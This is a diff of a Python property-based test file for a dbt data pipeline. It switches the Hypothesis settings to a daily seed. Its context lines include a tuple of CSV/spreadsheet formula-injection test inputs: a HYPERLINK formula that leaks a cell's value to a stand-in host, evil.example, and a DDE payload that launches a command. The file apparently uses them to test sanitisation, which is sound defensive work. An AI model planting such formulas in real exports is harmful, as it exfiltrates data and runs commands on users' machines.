@@ -20,16 +20,21 @@ from pathlib import Path
 import duckdb
 import pytest
 import yaml
-from conftest import DIRTY_VARS, MESSY_VARS, PROJECT_DIR, SEEDS_DIR, TODAY, Workspace, generate_demo
+from conftest import DIRTY_VARS, HYPOTHESIS_SEED, MESSY_VARS, PROJECT_DIR, SEEDS_DIR, TODAY, Workspace, generate_demo
 from engines import ENGINES, engine_workspace
-from hypothesis import HealthCheck, Phase, example, given, settings
+from hypothesis import HealthCheck, Phase, example, given, seed, settings
 from hypothesis import strategies as st
 from oracle import CUSTOMER_COLUMNS, ORDER_COLUMNS, Row, expected_rejects, normalise_email, parse_bool
 
 SCRIPTS = PROJECT_DIR / "scripts"
-# No shrinking: an example is a dbt run, and the failing input is printed as it is.
-PROPERTY = settings(max_examples=3, deadline=None, derandomize=True, phases=[Phase.explicit, Phase.generate],
-                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+# No shrinking: an example is a dbt run, and the failing input is printed as it is. A few examples a run, new
+# ones each day (the seed of conftest.HYPOTHESIS_SEED).
+PROPERTY_SETTINGS = settings(max_examples=3, deadline=None, database=None, phases=[Phase.explicit, Phase.generate],
+                             suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+
+
+def PROPERTY(test):  # noqa: ANN001, ANN201, N802 (a hypothesis test, used as a decorator like settings)
+    return seed(HYPOTHESIS_SEED)(PROPERTY_SETTINGS(test))
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
             "-2+3", "\tx", "\rx")
 # Reproductions of the issue: refusals written with look-alike addresses or on rejected records.
